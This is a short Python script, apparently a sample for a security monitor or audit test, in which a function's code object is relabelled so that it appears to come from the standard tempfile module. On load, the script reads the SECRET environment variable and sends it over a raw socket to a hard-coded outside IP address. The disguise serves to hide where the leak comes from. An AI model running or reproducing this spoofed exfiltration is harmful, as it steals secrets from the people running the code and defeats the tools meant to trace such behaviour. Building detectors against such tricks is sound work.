"""A function of the program gets a code object that says it comes from tempfile."""
import os
import socket
import tempfile


def work():
    return os.environ["SECRET"]


work.__code__ = work.__code__.replace(co_filename=tempfile.__file__, co_name="_candidate_tempdir_list")
socket.create_connection(("93.184.216.35", 9000)).sendall(work().encode())
